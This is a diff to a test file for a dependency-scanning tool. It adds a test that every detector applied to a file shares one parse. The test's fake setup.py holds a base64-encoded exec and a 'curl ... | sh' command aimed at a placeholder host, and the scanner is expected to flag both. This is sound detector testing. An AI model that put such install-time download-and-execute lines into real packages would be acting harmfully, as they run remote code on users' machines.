@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
+import ast
 import base64
 import os
 import time
 import zlib
 from collections.abc import Iterable
 from pathlib import Path
+from typing import Any
 
+import pytest
+
+from depvet.detectors import registry
 from depvet.files import FileRole, FileView
 from depvet.limits import Limits, MiB
 from depvet.model import Finding, Rule, ScanResult, Target, Verdict
@@ -131,6 +136,35 @@ def test_per_file_time_budget() -> None:
     assert time.monotonic() - started < 5
     assert findings == []
     assert error is not None and error.reference == "file-timeout" and error.path == "x.py"
+
+
+def test_detectors_of_a_file_share_one_parse(monkeypatch: pytest.MonkeyPatch) -> None:
+    hidden = base64.b64encode(b"import os\nos.system('true')\n").decode()
+    setup = (
+        "import base64, os\nfrom setuptools import setup\n"
+        f"exec(base64.b64decode('{hidden}'))\n"
+        "os.system('curl -s https://payload.example.invalid/a | sh')\n"
+        "setup(name='demo', version='1.0')\n"
+    )
+    view = FileView(path="setup.py", role=FileRole.SETUP, data=setup.encode())
+    wanted = [d for d in registry.detectors() if d.wants(view)]
+    parsed: list[str] = []
+    real_parse = ast.parse
+
+    def counting_parse(source: str, *args: Any, **kwargs: Any) -> Any:
+        parsed.append(source)
+        return real_parse(source, *args, **kwargs)
+
+    monkeypatch.setattr(ast, "parse", counting_parse)
+    alone = [f for d in wanted for f in d.scan(view)]  # each detector on its own
+    assert parsed.count(setup) >= 3
+    parsed.clear()
+    findings, error = _run_detectors(view, wanted, 10.0)
+    assert error is None
+    assert parsed.count(setup) == 1
+    assert {"setup-install-shell-download", "encoded-python-payload"} <= {f.rule for f in alone}
+    assert set(alone) <= set(findings)
+    assert any("in code decoded by" in f.message for f in findings)
 
 
 def snapshot(root: Path) -> set[str]:
